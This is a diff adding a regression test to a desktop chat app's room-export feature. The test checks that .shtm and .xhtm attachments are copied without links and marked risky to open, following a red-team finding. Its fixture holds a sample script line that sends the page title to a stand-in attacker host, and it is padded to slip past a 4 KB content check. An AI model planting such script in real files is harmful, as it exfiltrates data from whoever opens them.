@@ -38,7 +38,7 @@ from bucket_chat_desktop.gui.main_window import MainWindow
 from bucket_chat_desktop.gui.models.timeline_model import Roles
 from bucket_chat_desktop.gui.room_export import RoomExport
 from bucket_chat_desktop.keys import load_or_create_identity, open_key_store
-from bucket_chat_desktop.protocol.attachments import blob_path, file_content
+from bucket_chat_desktop.protocol.attachments import blob_path, file_content, is_risky_to_open
 from bucket_chat_desktop.protocol.event import MESSAGE
 from bucket_chat_desktop.settings import Settings, StorageSettings
 from bucket_chat_desktop.storage.local import LocalStorage
@@ -404,6 +404,39 @@ def test_a_cancelled_export_leaves_the_users_files(app: App, tmp_path: Path) -> 
     assert task.cancelled()
     assert (docs / "Q4_files" / "report.pdf").read_bytes() == b"ALICE'S REAL REPORT"
     assert sorted(p.name for p in docs.iterdir()) == ["Q4_files"]
+
+
+WEB_PAGE = (
+    b"Agenda for Monday\n"
+    + b"- budget review\n" * 320  # past the 4 KB the bytes are looked at
+    + b'<script>fetch("https://evil.example/opened?by=" + document.title)</script>\n'
+)
+
+
+@pytest.mark.parametrize(
+    "app", [[("agenda.shtm", WEB_PAGE), ("minutes.xhtm", WEB_PAGE + b" ")]], indirect=True
+)
+def test_a_web_page_named_shtm_or_xhtm_is_copied_but_not_linked(app: App, tmp_path: Path) -> None:
+    """Red team rt65 (finding 5): Chrome and Edge give ``.shtm`` text/html and ``.xhtm``
+    application/xhtml+xml (their own table, which no platform overrides), but neither
+    was a web page to the app: the export linked ``design_files/agenda.shtm`` from the
+    page read in that browser (one click ran the member's script) and the app offered
+    Open. Now both are save-only, and the export copies them without a link."""
+    out = tmp_path / "out"
+    out.mkdir()
+    app.feature.choose = lambda _s, _n: (str(out / "design.html"), "html")
+    app.feature.start(app.key)
+    app.qtbot.waitUntil(lambda: app.feature.notice is not None, timeout=20000)
+    box = app.feature.notice
+    assert box is not None and box.windowTitle() == "Room exported", box.text()
+    html = (out / "design.html").read_text("utf-8")
+    assert (out / "design_files" / "agenda.shtm").read_bytes() == WEB_PAGE
+    assert (out / "design_files" / "minutes.xhtm").read_bytes() == WEB_PAGE + b" "
+    assert 'href="design_files/report.pdf"' in html  # an ordinary file is linked
+    for name in ("agenda.shtm", "minutes.xhtm"):
+        assert f'href="design_files/{name}"' not in html
+        assert is_risky_to_open(name)  # the app's Open is disabled for it
+    app.qtbot.waitUntil(lambda: app.feature.task is None)
 
 
 # -- a key another room does not trust -----------------------------------------------------
